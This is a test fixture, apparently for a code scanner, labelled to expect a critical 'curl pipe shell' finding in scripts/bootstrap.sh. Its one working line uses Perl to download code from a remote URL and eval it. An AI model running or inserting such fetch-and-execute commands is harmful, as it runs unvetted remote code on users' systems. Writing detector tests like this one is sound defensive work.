# expect: shell.curl_pipe_shell critical
# path: scripts/bootstrap.sh
#!/bin/sh
set -e
perl -MLWP::Simple -e 'eval get("https://get.acme-tools.dev/b.pl")'
